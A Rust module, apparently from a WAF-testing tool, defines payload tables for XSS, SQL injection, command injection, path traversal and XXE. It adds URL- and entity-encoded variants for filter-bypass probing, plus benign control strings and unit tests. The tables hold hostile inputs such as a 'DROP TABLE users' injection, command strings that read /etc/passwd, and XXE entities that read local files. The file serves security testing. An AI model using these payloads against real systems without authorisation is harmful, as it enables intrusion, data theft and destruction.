//! Attack payload tables for WAF probing.
//!
//! Each category is a finite, ordered, duplicate-free sequence. The `all`
//! selection is the concatenation xss + sqli + cmdi + path_traversal + xxe +
//! normal, in exactly that order. Pre-encoded variants of each payload can
//! be appended as separate entries to probe filter-bypass behavior.

use std::fmt;
use std::str::FromStr;

use crate::error::{Error, Result};

/// A payload category.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum PayloadCategory {
    /// Cross-site scripting.
    Xss,
    /// SQL injection.
    Sqli,
    /// OS command injection.
    Cmdi,
    /// Filesystem path traversal.
    PathTraversal,
    /// XML external entity injection.
    Xxe,
    /// Benign conversation, as a control group.
    Normal,
}

impl PayloadCategory {
    /// All categories in the documented concatenation order.
    pub const ALL: [PayloadCategory; 6] = [
        PayloadCategory::Xss,
        PayloadCategory::Sqli,
        PayloadCategory::Cmdi,
        PayloadCategory::PathTraversal,
        PayloadCategory::Xxe,
        PayloadCategory::Normal,
    ];

    /// Returns this category's payload table.
    pub fn table(&self) -> &'static [&'static str] {
        match self {
            PayloadCategory::Xss => XSS,
            PayloadCategory::Sqli => SQLI,
            PayloadCategory::Cmdi => CMDI,
            PayloadCategory::PathTraversal => PATH_TRAVERSAL,
            PayloadCategory::Xxe => XXE,
            PayloadCategory::Normal => NORMAL,
        }
    }
}

impl fmt::Display for PayloadCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PayloadCategory::Xss => write!(f, "xss"),
            PayloadCategory::Sqli => write!(f, "sqli"),
            PayloadCategory::Cmdi => write!(f, "cmdi"),
            PayloadCategory::PathTraversal => write!(f, "path_traversal"),
            PayloadCategory::Xxe => write!(f, "xxe"),
            PayloadCategory::Normal => write!(f, "normal"),
        }
    }
}

impl FromStr for PayloadCategory {
    type Err = Error;

    fn from_str(s: &str) -> Result<Self> {
        match s {
            "xss" => Ok(PayloadCategory::Xss),
            "sqli" => Ok(PayloadCategory::Sqli),
            "cmdi" => Ok(PayloadCategory::Cmdi),
            "path_traversal" => Ok(PayloadCategory::PathTraversal),
            "xxe" => Ok(PayloadCategory::Xxe),
            "normal" => Ok(PayloadCategory::Normal),
            _ => Err(Error::validation(
                format!("unknown payload category: {s}"),
                Some("payload_type".to_string()),
            )),
        }
    }
}

/// Which payload categories to emit.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum PayloadSelection {
    /// One named category.
    Category(PayloadCategory),
    /// All categories, concatenated in the documented order.
    All,
}

impl FromStr for PayloadSelection {
    type Err = Error;

    fn from_str(s: &str) -> Result<Self> {
        if s == "all" {
            Ok(PayloadSelection::All)
        } else {
            s.parse().map(PayloadSelection::Category)
        }
    }
}

impl PayloadSelection {
    /// Produces the ordered payload sequence for this selection.
    ///
    /// With `encoded` set, each category is followed by URL-encoded,
    /// double-URL-encoded, and HTML-entity-encoded variants of its entries,
    /// deduplicated so a payload unchanged by an encoding appears once.
    pub fn entries(&self, encoded: bool) -> Vec<String> {
        let categories: &[PayloadCategory] = match self {
            PayloadSelection::Category(category) => std::slice::from_ref(category),
            PayloadSelection::All => &PayloadCategory::ALL,
        };
        let mut entries = Vec::new();
        for category in categories {
            let mut seen: Vec<String> = Vec::new();
            for payload in category.table() {
                push_unique(&mut seen, payload.to_string());
            }
            if encoded {
                for payload in category.table() {
                    push_unique(&mut seen, url_encode(payload));
                    push_unique(&mut seen, url_encode(&url_encode(payload)));
                    push_unique(&mut seen, html_entity_encode(payload));
                }
            }
            entries.extend(seen);
        }
        entries
    }
}

fn push_unique(seen: &mut Vec<String>, candidate: String) {
    if !seen.contains(&candidate) {
        seen.push(candidate);
    }
}

/// Percent-encodes a payload the way a form submission would.
pub fn url_encode(payload: &str) -> String {
    url::form_urlencoded::byte_serialize(payload.as_bytes()).collect()
}

/// Replaces HTML-significant characters with entity references.
pub fn html_entity_encode(payload: &str) -> String {
    let mut encoded = String::with_capacity(payload.len());
    for c in payload.chars() {
        match c {
            '<' => encoded.push_str("&lt;"),
            '>' => encoded.push_str("&gt;"),
            '&' => encoded.push_str("&amp;"),
            '"' => encoded.push_str("&quot;"),
            '\'' => encoded.push_str("&#x27;"),
            _ => encoded.push(c),
        }
    }
    encoded
}

const XSS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    "javascript:alert('XSS')",
    "<iframe src='javascript:alert(\"XSS\")'></iframe>",
    "'\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "<script>alert`XSS`</script>",
    "<img src='x' onerror='alert(1)'>",
];

const SQLI: &[&str] = &[
    "' OR '1'='1",
    "1' OR '1'='1' --",
    "admin'--",
    "' UNION SELECT NULL--",
    "1' AND '1'='2",
    "'; DROP TABLE users--",
    "1' UNION SELECT username, password FROM users--",
];

const CMDI: &[&str] = &[
    "; ls -la",
    "| whoami",
    "`id`",
    "$(whoami)",
    "; cat /etc/passwd",
    "& ping -c 5 127.0.0.1",
    "|| echo vulnerable",
];

const PATH_TRAVERSAL: &[&str] = &[
    "../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\config\\sam",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
];

const XXE: &[&str] = &[
    "<?xml version='1.0'?><!DOCTYPE foo [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><foo>&xxe;</foo>",
    "<?xml version='1.0'?><!DOCTYPE data [<!ENTITY file SYSTEM 'file:///c:/windows/win.ini'>]><data>&file;</data>",
];

const NORMAL: &[&str] = &[
    "Hello, I need help with my account",
    "Can you help me reset my password?",
    "What are your business hours?",
    "I have a question about my order",
    "Thank you for your help!",
    "How do I update my profile?",
    "Is there a way to track my shipment?",
    "I'd like to speak with a supervisor",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_is_the_fixed_concatenation() {
        let all = PayloadSelection::All.entries(false);
        let mut expected = Vec::new();
        for category in PayloadCategory::ALL {
            expected.extend(category.table().iter().map(|p| p.to_string()));
        }
        assert_eq!(all, expected);
    }

    #[test]
    fn no_duplicates_within_a_category() {
        for category in PayloadCategory::ALL {
            for encoded in [false, true] {
                let entries = PayloadSelection::Category(category).entries(encoded);
                let mut sorted = entries.clone();
                sorted.sort();
                sorted.dedup();
                assert_eq!(sorted.len(), entries.len(), "{category} has duplicates");
            }
        }
    }

    #[test]
    fn encoded_variants_follow_plain_entries() {
        let entries = PayloadSelection::Category(PayloadCategory::Xss).entries(true);
        let plain = PayloadCategory::Xss.table().len();
        assert!(entries.len() > plain);
        assert_eq!(entries[0], XSS[0]);
        assert!(entries[plain..].iter().any(|p| p.contains('%')));
    }

    #[test]
    fn category_parsing_round_trips() {
        for category in PayloadCategory::ALL {
            assert_eq!(
                category.to_string().parse::<PayloadCategory>().unwrap(),
                category
            );
        }
        assert_eq!(
            "all".parse::<PayloadSelection>().unwrap(),
            PayloadSelection::All
        );
        assert!("nonsense".parse::<PayloadSelection>().is_err());
    }

    #[test]
    fn html_entities_cover_markup_characters() {
        assert_eq!(
            html_entity_encode("<script>'x'&\"y\"</script>"),
            "&lt;script&gt;&#x27;x&#x27;&amp;&quot;y&quot;&lt;/script&gt;"
        );
    }

    #[test]
    fn url_encoding_percent_escapes() {
        assert_eq!(url_encode("' OR '1'='1"), "%27+OR+%271%27%3D%271");
    }
}
